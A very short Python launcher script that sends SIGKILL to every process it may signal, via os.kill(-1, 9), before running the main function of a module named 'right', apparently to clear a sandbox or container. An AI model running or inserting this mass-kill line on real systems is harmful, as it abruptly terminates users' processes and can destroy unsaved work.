import os

import right

try:
    os.kill(-1, 9)
except OSError:
    pass  # there is nobody else
right.main()
